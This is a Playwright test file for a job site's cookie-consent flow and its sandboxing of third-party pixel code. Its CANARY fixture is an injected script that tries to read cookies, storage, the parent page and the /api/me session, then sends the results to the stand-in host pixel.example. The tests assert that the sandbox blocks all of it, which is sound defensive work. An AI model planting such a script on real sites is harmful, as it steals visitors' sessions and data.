import { type BrowserContext, expect, type Page, test } from 'playwright/test'
import { changeData, changeJob } from '../support/change-data.ts'
import { loadMessages, site } from '../support/candidate.ts'
import { importCopy } from '../support/companies.ts'
import { withDatabase } from '../support/with-database.ts'

type Translate = Awaited<ReturnType<typeof loadMessages>>

/** A company with third parties. Only these tests use it. */
const COMPANY = `almea-tracked-${process.env.TEST_PARALLEL_INDEX}`
const OPERATING = ['cookie_choices', 'date_locale', 'locale']
const JOB = '/jobs/manipulateur-radio-lille'
const JOB_WITH_VIDEO = 'pflegefachkraft-koeln'

/** Tries everything that the page must prevent. Reports the results by requests, its only channel. */
const CANARY = `<script>
const got = []
const attempt = (name, work) => { try { const value = work(); if (value) got.push(name + ':' + value) } catch {} }
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length + 1)
attempt('parent', () => parent !== window && parent.document.title)
attempt('top', () => { if (top !== window) top.location = 'https://pixel.example/stolen' })
parent.postMessage({ event: 'consent', detail: 'x', type: 'height', height: 9999 }, '*')
const sessionRead = fetch('/api/me', { credentials: 'include' }).then((reply) => reply.text()).then((text) => got.push('session:' + text), () => {})
const consentWrite = fetch('/api/companies/${COMPANY}/consents', { method: 'POST', body: '{}' }).then((reply) => got.push('call:' + reply.status), () => {})
Promise.all([sessionRead, consentWrite]).then(() => fetch('https://pixel.example/got?' + encodeURIComponent(JSON.stringify({ got, origin }))))
addEventListener('message', ({ data }) => fetch('https://pixel.example/view?' + encodeURIComponent(JSON.stringify(data))))
</script>`

/** Replaces Google's script. Sends each event and identifies the browser by a cookie, as the real script does. */
const GTAG = `if (!document.cookie.includes('_ga=')) document.cookie = '_ga=GA1.1.' + Math.random() + '; path=/'
const send = (call) => call[0] === 'event' && fetch('https://www.google-analytics.com/g/collect?' + encodeURIComponent(JSON.stringify([...call])))
const { push } = dataLayer
dataLayer.forEach(send)
dataLayer.push = (call) => { send(call); return push.call(dataLayer, call) }`

test.beforeAll(async () => {
  await importCopy('almea', COMPANY)
  const setTools = `update companies set analytics_id = 'G-TEST42', html_pixels_code = ?, chat_provider = 'crisp',
    chat_id = 'almea-chat' where slug = ?`
  changeData(setTools, CANARY, COMPANY)
  changeJob(COMPANY, JOB_WITH_VIDEO, 'abstract_video = ?', 'https://youtu.be/dQw4w9WgXcQ')
})

const at = (path: string) => site(COMPANY, path)
const host = () => new URL(at('/')).host

/** Records all requests to other origins and answers them with stubs. */
async function recordRequests(context: BrowserContext) {
  const requests: URL[] = []
  await context.route(
    (url) => url.host !== host(),
    (route) => {
      const url = new URL(route.request().url())
      requests.push(url)
      const body = url.pathname === '/gtag/js' ? GTAG : ''
      return route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } })
    },
  )
  const sent = (path: string) =>
    requests
      .filter(({ pathname }) => pathname === path)
      .map(({ search }) => JSON.parse(decodeURIComponent(search.slice(1))) as unknown)
  return { hosts: () => [...new Set(requests.map((url) => url.host))].sort(), sent, clear: () => (requests.length = 0) }
}

const names = async (context: BrowserContext) => (await context.cookies()).map(({ name }) => name).sort()
/** Opens the cookie settings again. Retries, because their code loads last. */
async function reopen(page: Page, t: Translate) {
  const modal = page.getByRole('dialog', { name: t('consent.TITLE') })
  await expect(async () => {
    await page.getByRole('button', { name: t('site.FOOTER.COOKIES') }).click({ timeout: 2000 })
    await expect(modal.getByRole('button', { name: t('ui.CLOSE') })).toBeVisible({ timeout: 2000 })
  }).toPass()
  return modal
}

for (const locale of ['en', 'fr'] as const)
  test(`sends nothing before the choice or after a rejection, in ${locale}`, async ({ browser }) => {
    const t = await loadMessages(locale)
    const context = await browser.newContext({ locale })
    const traffic = await recordRequests(context)
    const page = await context.newPage()
    await page.goto(at(JOB))
    const modal = page.getByRole('dialog', { name: t('consent.TITLE') })
    await expect(modal).toBeVisible()
    expect([traffic.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
    await modal.getByRole('button', { name: t('consent.REJECT') }).click()
    await expect(modal).toBeHidden()
    for (const path of ['/', JOB, '/all-jobs', `${JOB}/apply`]) {
      await page.goto(at(path))
      await reopen(page, t)
    }
    expect([traffic.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
    await context.close()
  })

test.describe('with animations', () => {
  test.use({ contextOptions: { reducedMotion: 'no-preference' } })
  test('slides the cookie modal in without a layout shift', async ({ page }) => {
    await page.addInitScript(() => {
      type Shift = PerformanceEntry & { value: number }
      const add = (list: PerformanceObserverEntryList) => {
        const sum = list.getEntries().reduce((total, entry) => total + (entry as Shift).value, 0)
        Object.assign(window, { shifted: ((window as { shifted?: number }).shifted ?? 0) + sum })
      }
      new PerformanceObserver(add).observe({ type: 'layout-shift', buffered: true })
    })
    await page.goto(at(JOB))
    await expect(page.getByRole('dialog')).toBeVisible()
    await page.evaluate(() => Promise.all(document.getAnimations().map(({ finished }) => finished.catch(() => null))))
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
    expect(await page.evaluate(() => (window as { shifted?: number }).shifted ?? 0)).toBeLessThan(0.02)
  })
})

test('loads only the company’s listed recipients after Accept, isolates its own code, and stops on withdrawal', async ({
  browser,
}) => {
  const t = await loadMessages('en')
  const context = await browser.newContext({ locale: 'en' })
  const traffic = await recordRequests(context)
  const page = await context.newPage()
  await page.goto(at(`${JOB}?source=poster&secret=s3cret`))
  await page.getByRole('button', { name: t('consent.ACCEPT') }).click()
  await expect
    .poll(traffic.hosts)
    .toEqual(['client.crisp.chat', 'pixel.example', 'www.google-analytics.com', 'www.googletagmanager.com'])

  await expect.poll(() => traffic.sent('/got')).toEqual([{ got: [], origin: 'null' }])
  const view = { event: 'page_view', path: `${JOB}?source=poster`, title: await page.title(), stage: 'abstract' }
  await expect.poll(() => traffic.sent('/view')).toEqual([view])
  expect(traffic.sent('/g/collect')).toEqual([['event', 'page_view', { stage: 'abstract' }]])
  const gaCookie = async () => (await context.cookies()).find(({ name }) => name === '_ga')?.value
  const browserId = await gaCookie()
  expect(browserId).toMatch(/^GA1/)
  expect(page.url()).toContain(JOB)
  await expect(page.getByRole('dialog')).toBeHidden()
  const sql = `select action, choices from consents
    where company_id = (select id from companies where slug = ?) order by id`
  const readConsents = () => withDatabase((database) => database.prepare(sql).all(COMPANY))
  await expect.poll(() => readConsents().at(-1)).toMatchObject({ action: 'accept' })

  traffic.clear()
  await page.goto(at(`${JOB}/apply`))
  await expect.poll(() => traffic.sent('/g/collect')).toEqual([['event', 'page_view', {}]])
  expect(await gaCookie()).toBe(browserId)
  expect(traffic.hosts()).not.toContain('pixel.example')
  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)

  await page.goto(at(JOB))
  await expect(page.locator('iframe[src="/pixels"]')).toBeAttached()
  const modal = await reopen(page, t)
  await expect(modal.getByRole('checkbox', { name: t('consent.CATEGORY.tracking') })).toBeChecked()
  const reloaded = page.waitForEvent('load')
  await modal.getByRole('button', { name: t('consent.REJECT') }).click()
  await reloaded
  traffic.clear()
  await page.goto(at(JOB))
  await reopen(page, t)
  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)
  expect([traffic.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
  await context.close()
})

test('does not load a recipient added after the choice on a page that does not ask', async ({ browser }) => {
  const context = await browser.newContext({ locale: 'en' })
  const traffic = await recordRequests(context)
  const page = await context.newPage()
  await page.goto(at('/'))
  await page.evaluate(() => {
    const choices = { tracking: true, social: true, media: true, operating: true }
    const consent = { choices, recipients: ['pixels'], consent_id: 'a', chosen_at: new Date().toISOString() }
    document.cookie = `cookie_choices=${encodeURIComponent(JSON.stringify(consent))}; path=/`
  })
  await page.goto(at('/'))
  await expect.poll(() => names(context)).not.toContain('cookie_choices')
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
  expect(traffic.hosts()).toEqual([])
  await context.close()
})

test.describe('on a phone', () => {
  test.use({ locale: 'fr', viewport: { width: 360, height: 740 } })

  test('sends no request to YouTube before the visitor plays a video, and fits the video into the page', async ({
    page,
  }) => {
    const t = await loadMessages('fr')
    const traffic = await recordRequests(page.context())
    const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)
    await page.goto(at(`/jobs/${JOB_WITH_VIDEO}`))
    await page
      .getByRole('dialog', { name: t('consent.TITLE') })
      .getByRole('button', { name: t('consent.REJECT') })
      .click()
    const youtubeLink = page.getByRole('link', { name: t('site.YOUTUBE.WATCH') })
    await expect(youtubeLink).toHaveAttribute('href', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ')
    expect([await fits(), traffic.hosts()]).toEqual([true, []])
    await page.getByRole('button', { name: t('site.YOUTUBE.SHOW') }).click()
    await expect.poll(traffic.hosts).toEqual(['www.youtube-nocookie.com'])
    await expect(page.locator('iframe[title$="YouTube"]')).toBeVisible()
    expect(await fits()).toBe(true)
  })
})

test('asks for a choice again after six months, not before', async ({ browser }) => {
  const t = await loadMessages('en')
  const context = await browser.newContext({ locale: 'en' })
  await recordRequests(context)
  const page = await context.newPage()
  await page.clock.setFixedTime(new Date('2026-01-10T10:00:00Z'))
  await page.goto(at(JOB))
  const modal = page.getByRole('dialog', { name: t('consent.TITLE') })
  await modal.getByRole('button', { name: t('consent.REJECT') }).click()
  await page.clock.setFixedTime(new Date('2026-07-10T09:59:00Z'))
  await page.goto(at(JOB))
  await reopen(page, t)
  await page.clock.setFixedTime(new Date('2026-07-10T10:01:00Z'))
  await page.goto(at(JOB))
  await expect(modal).toBeVisible()
  await context.close()
})

test('serves the frame without an origin, even when opened directly, for its company only', async ({ browser }) => {
  const context = await browser.newContext()
  const traffic = await recordRequests(context)
  const page = await context.newPage()
  const reply = await page.goto(at('/pixels'))
  expect(reply?.headers()['content-security-policy']).toBe(
    "sandbox allow-scripts; frame-ancestors 'self'; form-action 'none'; object-src 'none'",
  )
  expect(reply?.headers()['set-cookie']).toBeUndefined()
  await expect.poll(() => traffic.sent('/got')).toEqual([{ got: [], origin: 'null' }])
  const { host: otherHost, port } = new URL(site('levain', '/'))
  const others = await context.request.get(`http://127.0.0.1:${port}/pixels`, { headers: { host: otherHost } })
  expect(others.status()).toBe(404)
  await context.close()
})
